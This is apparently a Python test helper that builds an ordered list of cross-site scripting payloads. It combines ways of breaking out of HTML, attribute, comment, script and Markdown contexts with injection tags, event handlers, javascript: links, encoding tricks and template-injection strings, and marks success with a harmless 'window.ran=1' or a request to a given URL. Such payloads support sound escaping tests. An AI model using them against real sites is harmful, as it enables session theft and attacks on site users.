"""Texts that run a script wherever they reach a page unescaped: every way in, by every way out of what is around it.

Each sets `window.ran` or asks the address.
"""

from itertools import product

_SCRIPT = "window.ran=1"
# Ends of what a text may stand in: nothing, an attribute, a tag, a comment, a script, a style, a textarea, Markdown.
_OUT_OF = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "`",
    "</template>",
    '</div></article>"',
)
_TAGS = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script src={url}></script>",
    "<script/x>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=x:x onerror='{js}'>",
    '<img src="{url}">',
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<math><mtext><script>{js}</script></mtext></math>",
    "<iframe src=javascript:{js}></iframe>",
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "<object data={url}></object>",
    "<embed src={url}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<marquee onstart={js}>x</marquee>",
    "<style>@import '{url}';</style>",
    "<link rel=stylesheet href={url}>",
    "<base href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<form action={url}><button autofocus onfocus={js}>x</button></form>",
)
_ATTRIBUTES = (
    '" onmouseover={js} x="',
    "' onfocus={js} autofocus x='",
    '" autofocus onfocus={js} "',
    " onclick={js} ",
    '" style="background:url({url})" x="',
)
_LINKS = (
    "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})",
    "[x]( javascript:{js})",
    "[x](java\tscript:{js})",
    "[x](&#106;avascript:{js})",
    "[x](data:text/html,<script>{js}</script>)",
    "[x](vbscript:{js})",
    "<javascript:{js}>",
    "![x]({url})",
    "![x](x){{onerror={js}}}",
    "[x]({url} 'title\" onmouseover={js} \"')",
    "[x]: javascript:{js}\n\n[x]",
    "<a href=javascript:{js}>x</a>",
    '<a href="&#x6A;avascript:{js}">x</a>',
)
_ENCODED = (
    "&lt;script&gt;{js}&lt;/script&gt;",
    "%3Cscript%3E{js}%3C/script%3E",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "＜script＞{js}＜/script＞",
    "<scr\u200bipt>{js}</scr\u200bipt>",
    "<<script>{js}//<</script>",
    "<script>{js}",
    "${{{js}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{% raw %}}{js}{{% endraw %}}",
    "</script><script>{js}</script>",
    "\u202e<script>{js}</script>",
)


def payloads(url: str) -> list[str]:
    """In an order that is the same each time."""
    found = [out + tag for out, tag in product(_OUT_OF, _TAGS)]
    found += [out + attribute for out, attribute in product(("", "x", "`"), _ATTRIBUTES)]
    found += [*_LINKS, *_ENCODED]
    return [text.format(js=_SCRIPT, url=url) for text in dict.fromkeys(found)]
